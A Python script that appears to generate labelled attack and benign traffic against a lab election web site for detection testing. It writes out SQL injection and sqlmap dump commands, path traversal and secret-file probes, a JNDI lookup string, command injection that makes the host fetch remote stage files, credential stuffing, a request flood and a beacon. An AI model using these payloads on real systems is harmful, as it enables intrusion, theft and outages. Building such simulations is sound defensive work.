"""Actors of the web: injection, traversal, probes, stuffing, a flood, a crowd; and a beacon on the way out."""

import random
import threading
import urllib.parse
from concurrent.futures import ThreadPoolExecutor

import cast
from logins import words
from stage import LAB, Browser

SITE = f"http://{cast.WEB}"
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
]
NAMES = ["O'Brien", "O'Neill", "D'Angelo", "Le May", "Union", "Selby", "Orwell", "Droppe", "Nguyen", "Garcia", "Andersen", "Von Select"]


def sqlmap(stage):
    stage.until(0.26)
    argv = ["sqlmap", "-u", f"{SITE}/voter/lookup?id=1007", "--batch", "--threads", "1", "--disable-coloring", "-T", "voters", "--dump",
            "--output-dir", stage.work / "sqlmap"]
    with stage.planted("fast SQL injection", "attempt", "web.sqli", [cast.OWN["wd-sqlmap"]], targets=["/voter/lookup"],
                       did=" ".join(map(str, argv[:-2])), answered="the synthetic rows were dumped; nothing called out afterwards") as item:
        done = stage.run(argv, inside="wd-sqlmap", timeout=600)
        item["rows"] = done.stdout.count("| active |")
    if "O'Brien" not in done.stdout:
        raise RuntimeError(f"sqlmap dumped nothing: {done.stdout[-800:]}")


def slow_sqli(stage):
    stage.until(0.05)
    source, dice = cast.ONE["slow_sqli"], random.Random(7)
    tries = ["1004'", "1004 AND 1=1", "1004 AND 1=2", "1004 ORDER BY 5--", "1004 ORDER BY 7--", "-1 UNION SELECT 1,2,3,4,5,6",
             "-1 UNION ALL SELECT NULL,sqlite_version(),NULL,NULL,NULL,NULL--", "-1 UNION SELECT 1,name,3,4,5,6 FROM sqlite_master",
             "-1 UNION SELECT 1,sql,3,4,5,6 FROM sqlite_master WHERE name='voters'"]
    tries += [f"-1 UNION SELECT id,first,last,county,precinct,status FROM voters LIMIT 2 OFFSET {n}" for n in range(0, 60, 2)]
    with stage.planted("slow SQL injection", "attempt", "web.sqli", [source], targets=["/voter/lookup"], did="curl, one request a minute") as item:
        for count, text in enumerate(tries, 1):
            stage.curl(source, f"{SITE}/voter/lookup?id={urllib.parse.quote(text)}", agent=AGENTS[0])
            item["requests"] = count
            stage.pause(dice.uniform(52, 64), 0.95)
            if stage.over(0.95):
                break


def traversal(stage):
    stage.until(0.33)
    source = cast.ONE["traversal"]
    tries = [f"/static/{up * depth}{file}" for up in ("../", "..%2f", "%2e%2e/", "..%252f") for depth in (3, 6)
             for file in ("etc/passwd", "etc/shadow", "proc/self/environ")]
    tries += ["/static/....//....//....//etc/passwd", "/results?contest=../../../../etc/passwd%00", "/voter/lookup?id=../../../../../windows/win.ini"]
    with stage.planted("path traversal", "attempt", "web.traversal", [source], targets=[SITE], did=f"curl --path-as-is, {len(tries)} paths"):
        for path in tries:
            stage.curl(source, SITE + path, agent="Mozilla/5.0 zgrab/0.x")
            stage.pause(3)


def probe(stage):
    stage.until(0.38)
    source = cast.ONE["probe"]
    tries = ["/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.ssh/id_rsa", "/wp-login.php", "/wp-admin/install.php", "/xmlrpc.php",
             "/phpmyadmin/index.php", "/pma/", "/admin/config.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
             "/actuator/env", "/actuator/heapdump", "/manager/html", "/HNAP1/", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/remote/login",
             "/dana-na/auth/url_default/welcome.cgi", "/autodiscover/autodiscover.json", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
             "/backup.sql", "/backup.zip", "/db.sql", "/dump.sql", "/config.php.bak", "/web.config", "/server-status", "/shell.php", "/c99.php",
             "/cgi-bin/luci", "/cgi-bin/test.cgi", "/struts2-showcase/", "/jenkins/script", "/console/", "/telescope/requests", "/_ignition/execute-solution",
             "/api/v1/pods", "/druid/index.html", "/nacos/v1/auth/users", "/geoserver/web/", "/CFIDE/administrator/", "/login.action",
             "/?x=${jndi:ldap://203.0.113.9/a}"]
    with stage.planted("known-vulnerability probes", "attempt", "web.probe", [source], targets=[SITE], did=f"curl, {len(tries)} paths"):
        stage.curl(source, f"https://{cast.WEB}:80/")
        for path in tries:
            stage.curl(source, "-g", SITE + path, agent="Mozilla/5.0 (compatible; example-prober/2.1)")
            stage.pause(1.2)


def command(stage):
    """A command injection that works, and the host that then calls out."""
    stage.until(0.62)
    source = cast.ONE["command"]
    tries = ["localhost;id", "localhost|uname -a", "localhost;cat /etc/hostname", "localhost$(sleep 1)"]
    tries += [f"localhost;curl -s http://{cast.KIT}:8080/kit/{part}" for part in ("stage1.txt", "stage2.txt", "stage2.txt")]
    with stage.planted("command injection, then outbound", "access", "web.injection", [source], targets=["/status/check"],
                       did=f"curl, 7 requests; the last three make the web host fetch from {cast.KIT}:8080", outbound=cast.KIT):
        for text in tries:
            stage.curl(source, f"{SITE}/status/check?host={urllib.parse.quote(text)}", agent=AGENTS[3])
            stage.pause(9)


def stuffing(stage):
    stage.until(0.55)
    source, guesses = cast.ONE["stuffing"], words(120, 6)
    names = [f"{name}{number}@county.example" for name in ("ann", "bob", "carol", "dave", "erin", "fay") for number in range(20)]
    with stage.planted("credential stuffing from one source", "attempt", "web.stuffing", [source], targets=["/login"],
                       did=f"curl, {len(names)} pairs, one after the other"):
        for name, guess in zip(names, guesses, strict=True):
            stage.curl(source, "-d", urllib.parse.urlencode({"user": name, "pass": guess}), f"{SITE}/login", agent="python-requests/2.31.0")
            stage.pause(0.5)


def distributed_stuffing(stage):
    stage.until(0.15)
    dice, pairs = random.Random(8), iter(words(200, 7))
    turns = [source for source in cast.STUFFERS for _ in range(dice.randrange(2, 4))]
    dice.shuffle(turns)
    with stage.planted("credential stuffing from many sources", "attempt", "web.stuffing", cast.STUFFERS, targets=["/login"],
                       did=f"curl, {len(turns)} pairs, two or three from each of {len(cast.STUFFERS)} sources"):
        for source in turns:
            form = urllib.parse.urlencode({"user": f"{dice.choice('abcdefghij')}.{dice.randrange(999)}@mail.example", "pass": next(pairs)})
            stage.curl(source, "-d", form, f"{SITE}/login", agent="python-requests/2.31.0")
            stage.pause(1170 / len(turns) * dice.uniform(0.4, 1.5), 0.9)


def flood(stage):
    stage.until(0.84)
    rounds = 4
    with stage.planted("flood", "attempt", "web.flood", cast.FLOODERS, targets=["/results"],
                       did=f"ab -n 100 -c 2, {rounds} rounds from each of {len(cast.FLOODERS)} sources within half a minute") as item:
        def one(source):
            gate = threading.Event()
            for _ in range(rounds):
                stage.run(["ab", "-q", "-n", "100", "-c", "2", "-s", "20", "-B", source, "-H", f"User-Agent: {AGENTS[0]}", f"{SITE}/results"])
                gate.wait(5)
        with ThreadPoolExecutor(len(cast.FLOODERS)) as crew:
            list(crew.map(one, cast.FLOODERS))
        item["requests"] = rounds * 100 * len(cast.FLOODERS)


def visit(stage, source, dice, looks_up=True):
    """An honest voter's visit."""
    browser = Browser(source, cast.WEB6 if ":" in source else cast.WEB, cast.SITE, dice.choice(AGENTS))
    try:
        browser.page("/")
        stage.pause(dice.uniform(1, 5))
        browser.page("/results", "/", fresh=dice.random() < 0.3)
        if dice.random() < 0.2:
            browser.get("/results?contest=" + dice.choice(["Question+7", "Union+Township+Select+Board", "Drop-off+table+hours"]), "/results")
        if looks_up and dice.random() < 0.5:
            browser.page("/voter/lookup", "/", fresh=False)
            stage.pause(dice.uniform(1, 4))
            asked = urllib.parse.urlencode({"name": dice.choice(NAMES)} if dice.random() < 0.5 else {"id": dice.randrange(1001, 1075)})
            browser.get(f"/voter/lookup?{asked}", "/voter/lookup")
    finally:
        browser.close()


def visits(crew, stage, plan, seconds, **more):
    """Sends `plan`'s voters (pairs of source and seed) on their visits, `seconds` apart; how many went well."""
    sent = []
    for source, seed in plan:
        sent.append(crew.submit(visit, stage, source, random.Random(seed), **more))
        stage.pause(seconds())
    went = sum(future.exception() is None for future in sent)
    if went < 0.95 * len(sent):
        raise RuntimeError(f"{len(sent) - went} of {len(sent)} visits failed: {next(f.exception() for f in sent if f.exception())!r}")
    return went


def voters(stage):
    stage.until(0.005)
    dice = random.Random(9)
    with stage.planted("honest voters", "null", "honest.web", cast.VOTERS, targets=[cast.WEB, cast.WEB6], did="visits with referrers and parts") as item:
        def plan():
            count = 0
            while not stage.over(0.96):
                yield dice.choice(cast.VOTERS), (count := count + 1)
        with ThreadPoolExecutor(8) as crew:
            item["visits"] = visits(crew, stage, plan(), lambda: dice.expovariate(1 / 5))


def crowd(stage):
    stage.until(0.66)
    with stage.planted("honest crowd", "null", "honest.crowd", cast.VOTERS, targets=[cast.WEB, cast.WEB6],
                       did="results are out: every voter loads them, with referrers and parts") as item:
        waiting = list(cast.VOTERS) * 2
        random.Random(10).shuffle(waiting)
        with ThreadPoolExecutor(24) as crew:
            plan = [(source, -count) for count, source in enumerate(waiting, 1)]
            item["visits"] = visits(crew, stage, plan, lambda: 0.5, looks_up=False)


def officials(stage):
    """Two officials sign in to the web form; one mistypes."""
    dice = random.Random(11)
    source = cast.VOTERS[3]
    with stage.planted("honest officials", "null", "honest.web", [source], list(cast.OFFICIALS), ["/login"], did="POST /login, one typing error, then success"):
        for share, (user, right) in zip((0.1, 0.45, 0.7, 0.9), [*cast.OFFICIALS.items()] * 2, strict=True):
            stage.until(share)
            browser = Browser(source, cast.WEB, cast.SITE, AGENTS[1])
            browser.page("/login")
            for typed in [right[:-1]] * dice.randrange(2) + [right]:
                stage.pause(4)
                status = browser.get("/login", "/login", urllib.parse.urlencode({"user": user, "pass": typed}))
            browser.get("/desk", "/login")
            browser.close()
            if status != 303:
                raise RuntimeError(f"{user} was answered {status}")


def beacon(stage):
    stage.until(0.03)
    dice = random.Random(12)
    with stage.planted("beacon", "access", "beacon", [cast.INFECTED], targets=[f"{cast.RARE}:443"], did="curl every 30 s, give or take a second") as item:
        item["calls"] = 0
        while not stage.over(0.97):
            stage.curl(cast.INFECTED, "-d", "id=47&ok=1", f"http://{cast.RARE}:443/c", inside="wd-desk")
            item["calls"] += 1
            stage.pause(30 + dice.uniform(-1, 1))


def desks(stage):
    """The office's own traffic on its way out."""
    interval = max(10, 64 * stage.length / 1800)
    with stage.planted("the office's own traffic", "null", "honest.outbound", cast.DESKS,
                       targets=[cast.TIME_SERVER, cast.RESOLVER, *cast.NEWS], did="clocks set at a steady rate, names looked up, news read"):
        stage.run(["/usr/bin/python3", LAB / "desk.py", f"{stage.length * 0.97:.0f}", f"{interval:.0f}"],
                  inside="wd-desk")


ACTORS = [sqlmap, slow_sqli, traversal, probe, command, stuffing, distributed_stuffing, flood, voters, crowd, officials, beacon, desks]
